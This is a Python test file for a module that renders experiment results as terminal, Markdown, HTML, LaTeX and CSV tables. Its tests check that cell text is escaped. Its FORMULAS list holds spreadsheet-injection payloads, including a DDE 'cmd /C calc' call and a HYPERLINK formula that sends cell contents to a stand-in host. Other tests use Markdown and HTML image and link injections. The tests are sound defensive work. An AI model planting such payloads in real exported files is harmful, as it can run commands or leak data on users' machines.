"""Tables, compared with NumPy, Rich's own rendering and the csv module."""

import csv as reader
import io
import math
import re
import statistics
from html import unescape
from pathlib import Path
from typing import Literal

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from framework.deployment.exported_folder.predict import plain_text
from framework.errors import ConfigError
from framework.reports.table import (
    WIDTH,
    aggregate,
    format_number,
    html,
    latex,
    markdown,
    results_table,
    write_csv,
)
from framework.storage.text import trim

COLUMNS = {"method": "method", "log_likelihood": "log-likelihood nats", "maad_deg": "MAAD °"}
ROWS = [
    {"method": "one", "log_likelihood": 0.563, "log_likelihood_sem": 0.0123, "maad_deg": 22.81},
    {"method": "two", "log_likelihood": 1.234, "log_likelihood_sem": 0.04, "maad_deg": None},
]


def shown(table, *, colour: bool = False, width: int = WIDTH) -> str:
    console = Console(file=io.StringIO(), width=width, force_terminal=colour)
    console.print(table)
    return console.file.getvalue()


@pytest.mark.parametrize(
    ("value", "spread", "text"),
    [
        (1.234, 0.04, "1.23 ± 0.04"),
        (22.8, 1.02, "22.8 ± 1.0"),  # two digits of an error that begins with 1
        (5.74, 0.13, "5.74 ± 0.13"),
        (0.37, 0.0096, "0.370 ± 0.010"),
        (1.0, 0.0199, "1.00 ± 0.02"),
        (-0.57, 0.05, "-0.57 ± 0.05"),
        (0.0, 0.5, "0.0 ± 0.5"),
        (1234.0, 56.0, "1230 ± 60"),
        (620_000.0, 870_000.0, "(600 ± 900) k"),
        (1.0, 2.5e6, "(0 ± 2) M"),
        (1.23456789, 1e-9, "1.23457 ± 1e-09"),
        (3e-7, 1e-8, "3.00e-07 ± 1e-08"),
        (1e30, 1e28, "1.00e+30 ± 1e+28"),
        (5.0, 0.0, "5.00 ± 0"),
        (5.0, math.inf, "5.00 ± inf"),
        (5.0, math.nan, "5.00"),
        (-math.inf, 1.0, "-inf"),
        (math.nan, 0.1, "not available"),
        (0.8412, math.nan, "0.841"),
        (12.345, math.nan, "12.3"),
        (9.999, math.nan, "10.0"),
        (12345.6, math.nan, "12346"),
        (0.0, math.nan, "0"),
        (3.2e-5, math.nan, "3.20e-05"),
        (1e30, math.nan, "1.00e+30"),
        (99_999, math.nan, "99999"),
        (1_234_567, math.nan, "1.23 M"),
        (12_345_678_901, math.nan, "12.3 G"),
        (10**30, math.nan, "1.00e+30"),
    ],
)
def test_numbers_have_the_digits_they_deserve(value: float, spread: float, text: str) -> None:
    assert format_number(value, spread) == text


@settings(deadline=None, max_examples=200)
@given(st.floats(-1e300, 1e300), st.floats(0, 1e300))
def test_a_printed_number_is_the_number_within_its_printed_error(value: float, spread: float) -> None:
    text = format_number(value, spread)
    inner, _, prefix = text.partition(") ")
    scale = {"k": 1e3, "M": 1e6, "G": 1e9, "T": 1e12, "": 1.0}[prefix]
    printed, _, error = inner.strip("()").partition(" ± ")
    assert float(printed) * scale == pytest.approx(value, rel=0.006, abs=max(spread, 1e-300))
    assert float(error) * scale == pytest.approx(spread, rel=0.5)


def test_an_error_beside_its_number_is_printed_behind_it_and_named() -> None:
    text = shown(results_table(ROWS, COLUMNS, title="Test"))
    assert "0.563 ± 0.012" in text
    assert "1.23 ± 0.04" in text
    assert "± standard error of the mean" in text
    assert "standard deviation" not in text


def test_what_is_missing_is_not_available() -> None:
    rows = [{"method": "one", "maad_deg": math.nan}, {"method": "two", "maad_deg": None}, {"method": "three"}]
    assert (
        shown(results_table(rows, {"method": "method", "maad_deg": "MAAD °"}, title="")).count(
            "not available"
        )
        == 3
    )


def test_the_best_of_a_column_is_bold_where_better_is_known() -> None:
    better = {"log_likelihood": "higher", "maad_deg": "lower"}
    rows = [*ROWS, {"method": "three", "log_likelihood": math.nan, "maad_deg": 20.0}]
    rows[1] = {**rows[1], "log_likelihood_sem": 0.04}
    lines = markdown(rows, COLUMNS, better=better).splitlines()
    assert lines[2].startswith("| one | 0.563 ± 0.012 | 22.8 |")
    assert lines[3].startswith("| two | **1.23 ± 0.04** | not available |")
    assert lines[4].startswith("| three | not available | 20.0 |")  # its error is not known
    assert lines[-1].endswith("bold: best, every difference significant at 95 %, Welch's t-test")
    assert "\x1b[1m1.23 ± 0.04" in shown(results_table(rows, COLUMNS, title="", better=better), colour=True)


@pytest.mark.parametrize("suffix", ["_std", "_sem", ""])
@pytest.mark.parametrize("way", ["higher", "lower"])
@pytest.mark.parametrize("distance", [0.0, 0.5, 30.0])
def test_the_best_is_bold_where_it_differs_from_all_by_more_than_noise(
    suffix: str, way: Literal["higher", "lower"], distance: float
) -> None:
    """A difference of many standard errors is marked; half a standard error and unknown standard errors are not."""
    sign = 1 if way == "lower" else -1
    rows = [
        {"method": name, "n": 3, "error": sign * error, **({f"error{suffix}": 0.1} if suffix else {})}
        for name, error in (("a", 1.0), ("b", 1.0 + 0.1 * distance), ("c", 9.0))
    ]
    for turned in (rows, rows[::-1]):
        lines = markdown(turned, {"method": "method", "error": "error"}, better={"error": way}).splitlines()
        bold = [line[2] for line in lines if "**" in line]
        assert bold == (["a"] if suffix and distance > 1 else [])


def test_whole_numbers_are_exact_and_equal_ones_are_not_bold() -> None:
    columns, better = {"method": "method", "parameters": "parameters"}, {"parameters": "lower"}
    rows = [{"method": name, "parameters": count} for name, count in (("a", 12), ("b", 13), ("c", 14))]
    assert markdown(rows, columns, better=better).count("**") == 2
    rows[1] = {"method": "b", "parameters": 12}
    assert "**" not in markdown(rows, columns, better=better)


def test_of_one_row_nothing_is_best() -> None:
    assert "**" not in markdown(ROWS[:1], COLUMNS, better={"log_likelihood": "higher"})


def test_plain_text_has_no_colours() -> None:
    assert "\x1b" not in shown(results_table(ROWS, COLUMNS, title="Test", better={"maad_deg": "lower"}))


def test_synthetic_data_are_called_so() -> None:
    generated = [{**row, "synthetic": True} for row in ROWS]
    assert "Test (synthetic data)" in shown(results_table(generated, COLUMNS, title="Test"))
    mixed = [generated[0], {**ROWS[1], "synthetic": False}]
    text = shown(results_table(mixed, COLUMNS, title="Test"))
    assert "(synthetic data)" not in text
    assert [line.split()[-1] for line in text.splitlines() if line.strip().startswith(("one", "two"))] == [
        "synthetic",
        "real",
    ]
    assert "synthetic" in markdown(generated, COLUMNS)
    assert "synthetic" not in markdown(ROWS, COLUMNS) + shown(results_table(ROWS, COLUMNS, title="Test"))


def test_names_are_never_read_as_markup() -> None:
    rows = [{"method": "[bold]ensemble[/bold] | [temperature]", "log_likelihood": 1.0}]
    columns = {"method": "[red]method", "log_likelihood": "log-likelihood"}
    text = shown(results_table(rows, columns, title="sweep [x]"))
    assert "[bold]ensemble[/bold] | [temperature]" in text
    assert "[red]method" in text
    assert "sweep [x]" in text
    assert r"\[bold\]ensemble\[/bold\] \| \[temperature\]" in markdown(rows, columns)


@pytest.mark.parametrize(
    "name",
    [
        "![a](http://127.0.0.2/a.png)",
        "<img src='http://127.0.0.2'>",
        "a\\| b",
        "`|`",
        "[1](2)",
        "a\r\n| b |",
        "*a*",
    ],
)
def test_a_name_is_one_cell_of_plain_text_in_markdown_and_html(name: str) -> None:
    """The pages contain no image, link or further cell, as a parser of Markdown reads them."""
    columns = {"method": name, "log_likelihood": "log-likelihood"}
    rows = [{"method": name, "log_likelihood": 1.0}]
    parser = MarkdownIt("commonmark").enable("table")  # rich installs this package
    for page in (parser.render(markdown(rows, columns)), html(rows, columns)):
        tags = [tag for tag in re.findall(r"<(\w+)", page) if tag not in ("table", "thead", "tbody", "tr")]
        assert tags == ["th", "th", "td", "td"]
        cells = [unescape(cell) for cell in re.findall(r"<t[hd][^>]*>([^<]*)</t", page)]
        assert [" ".join(cell.split()) for cell in cells[::2]] == [" ".join(name.split())] * 2


@pytest.mark.parametrize("name", ["[2cm]", "*best", "[", "a[1]"])
def test_the_first_cell_of_latex_is_no_argument_of_the_line_before(name: str) -> None:
    line = next(line for line in latex([{"method": name}], {"method": "m"}).splitlines() if name in line)
    assert line.startswith("{}" if name != "a[1]" else "a")


FORMULAS = [
    '=HYPERLINK("http://127.0.0.2/?"&A1,"a")',
    "=cmd|' /C calc'!A0",
    "+WEBSERVICE(A1)",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=A(1)",
    "a;=cmd|' /C calc'!A0",
    "\ufeff=A(1)",
    "\u200b =A(1)",
    "＝A(1)",
    "＠SUM(1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_name_is_no_formula_of_a_spreadsheet(formula: str, tmp_path: Path) -> None:
    """No cell begins with a sign of a formula, whether a comma, a semicolon or a tab separates the cells."""
    path = tmp_path / "one.csv"
    write_csv([{"method": formula, formula: -0.5, "b": "-ve", "c": "+ve", "d": "a-b (c)"}], None, path)
    text = path.read_text()
    header, row = reader.reader(text.splitlines())
    assert row[1:] == ["-0.5", "-ve", "+ve", "a-b (c)"]
    for name in (row[0], header[1], plain_text(formula)):  # of an exported folder, which escapes tabs
        assert name.replace("'", "").replace(r"\t", "\t") == formula.replace("'", "") and name != formula
        assert not any(trim(part)[:1] in "=+-@＝＋－＠" for part in re.split(r"[;\t]", name) if part.strip())


@settings(deadline=None, max_examples=60)
@given(
    st.lists(st.integers(1, 24), min_size=1, max_size=12),
    st.lists(st.integers(1, 24), min_size=12, max_size=12),
    st.integers(1, 12),
)
def test_a_table_that_can_fit_the_terminal_does(heads: list[int], cells: list[int], count: int) -> None:
    columns = {str(index): "h" * length for index, length in enumerate(heads)}
    rows = [{key: "c" * cells[int(key)] for key in columns} for _ in range(count)]
    widths = [max(length, cells[index]) for index, length in enumerate(heads)]
    upright = sum(widths) + 3 * len(widths) + 1
    first, rest = max(heads), max(cells[: len(heads)])
    turned = max(first, 1) + count * max(rest, cells[0]) + 3 * (count + 1) + 1
    lines = shown(results_table(rows, columns, title="t")).splitlines()
    assert all(len(line) <= WIDTH for line in lines)
    if min(upright, turned) <= WIDTH:  # then nothing is broken: every cell stands whole on some line
        assert all(any("c" * cells[int(key)] in line for line in lines) for key in columns)
        assert len(lines) <= 6 + max(count, len(heads))


@pytest.mark.parametrize(("last", "lines"), [(6, 1), (7, 8)])
def test_the_width_of_the_terminal_is_not_too_wide_but_one_more_is(last: int, lines: int) -> None:
    columns = {str(index): "h" for index in range(8)}
    row = dict.fromkeys(columns, "c" * 7) | {"7": "c" * last}  # 7 × 7 + 6 letters and 25 between make 80
    text = shown(results_table([row], columns, title=""))
    assert sum("ccc" in line for line in text.splitlines()) == lines


def test_a_single_wide_result_stands_upright() -> None:
    columns = {"method": "method"} | {f"number_{index}": f"quantity {index} ms" for index in range(14)}
    text = shown(
        results_table(
            [{"method": "one", **dict.fromkeys(columns, 1.5)} | {"method": "one"}], columns, title="t"
        )
    )
    assert all(f"quantity {index} ms" in text for index in range(14))


def test_headings_break_between_words_but_units_stay() -> None:
    columns = {"method": "method", "time": "time of mean log-likelihood ms / sample", "blank": ""}
    text = shown(results_table([{"method": "m", "time": 1.0, "blank": ""}], columns, title=""))
    for part in ("time of mean", "log-likelihood", "ms / sample"):
        assert any(line.strip().endswith(part) for line in text.splitlines())


def test_an_empty_table_has_its_headings() -> None:
    assert "MAAD °" in shown(results_table([], COLUMNS, title="nothing", better={"maad_deg": "lower"}))
    assert markdown([], COLUMNS).count("\n") == 2


def test_csv_keeps_every_digit_and_the_errors(tmp_path: Path) -> None:
    number = 0.1 + 0.2
    rows = [
        {
            "method": "a, b",
            "log_likelihood": number,
            "log_likelihood_sem": 1e-17,
            "maad_deg": math.nan,
            "synthetic": True,
        },
        {"method": "two", "log_likelihood": np.float32(0.5), "maad_deg": 10**18, "synthetic": False},
    ]
    path = tmp_path / "deep" / "results.csv"
    write_csv(rows, COLUMNS, path)
    with path.open(newline="", encoding="utf-8") as file:
        found = list(reader.DictReader(file))
    assert list(found[0]) == ["method", "log_likelihood", "log_likelihood_sem", "maad_deg", "synthetic"]
    assert found[0]["method"] == "a, b"
    assert float(found[0]["log_likelihood"]) == number
    assert float(found[0]["log_likelihood_sem"]) == 1e-17
    assert found[0]["maad_deg"] == ""
    assert found[1] == {
        "method": "two",
        "log_likelihood": "0.5",
        "log_likelihood_sem": "",
        "maad_deg": str(10**18),
        "synthetic": "false",
    }


@settings(deadline=None, max_examples=50)
@given(st.lists(st.lists(st.floats(-1e6, 1e6), min_size=2, max_size=6), min_size=1, max_size=4))
def test_aggregate_is_numpys_mean_and_sample_deviation(groups: list[list[float]]) -> None:
    rows = [
        {"method": f"m{group}", "seed": seed, "error": value}
        for group, values in enumerate(groups)
        for seed, value in enumerate(values)
    ]
    for row, values in zip(aggregate(rows, ["method"]), groups, strict=True):
        assert row["n"] == len(values)
        assert row["error"] == pytest.approx(statistics.fmean(values), abs=1e-9)
        assert row["error_std"] == pytest.approx(statistics.stdev(values), rel=1e-9, abs=1e-9)


def test_aggregate_keeps_what_is_common_and_drops_what_is_not() -> None:
    rows = [
        {
            "method": "a",
            "seed": 0,
            "parameters": 10,
            "error": 1.0,
            "error_sem": 0.1,
            "device": "cpu",
            "folder": "x",
        },
        {
            "method": "a",
            "seed": 1,
            "parameters": 10,
            "error": 3.0,
            "error_sem": 0.1,
            "device": "cpu",
            "folder": "y",
        },
    ]
    (row,) = aggregate(rows, ["method"])
    assert row == {
        "method": "a",
        "parameters": 10,
        "error": 2.0,
        "error_std": math.sqrt(2),
        "device": "cpu",
        "n": 2,
    }


def test_a_group_of_one_run_keeps_its_standard_error() -> None:
    rows = [{"method": "a", "seed": 0, "error": 1.0, "error_sem": 0.04}]
    (row,) = aggregate(rows, ["method"])
    assert math.isnan(row["error_std"])
    assert "1.00 ± 0.04" in markdown([row], {"method": "method", "error": "error"})
    both = [row, {"method": "b", "error": 2.0, "error_std": 0.03}]
    text = markdown(both, {"method": "method", "error": "error"})
    assert "± standard deviation over runs; for a single run: standard error of the mean" in text


def test_aggregate_never_averages_what_is_lacking_or_infinite_away() -> None:
    rows = [
        {"method": "a", "seed": 0, "error": 1.0, "bound": -math.inf, "memory": None},
        {"method": "a", "seed": 1, "error": None, "bound": 1.0, "memory": None},
    ]
    (row,) = aggregate(rows, ["method"])
    assert math.isnan(row["error"])
    assert row["bound"] == -math.inf
    assert math.isnan(row["bound_std"])
    assert row["memory"] is None


def test_aggregate_tells_synthetic_from_real() -> None:
    rows = [{"method": "a", "seed": 0, "error": value, "synthetic": value > 1} for value in (1.0, 2.0)]
    assert [(row["error"], row["synthetic"]) for row in aggregate(rows, ["method"])] == [
        (1.0, False),
        (2.0, True),
    ]


def test_aggregate_refuses_runs_that_are_not_independent() -> None:
    rows = [{"method": "a", "rate": rate, "seed": 0, "error": 1.0} for rate in (0.1, 0.2)]
    with pytest.raises(ConfigError, match="method=a have seed=0"):
        aggregate(rows, ["method"])
    assert len(aggregate(rows, ["method", "rate"])) == 2


def test_aggregate_names_a_key_that_is_missing() -> None:
    with pytest.raises(ConfigError, match="lacks the key 'seed'"):
        aggregate([{"method": "a"}], ["method"])
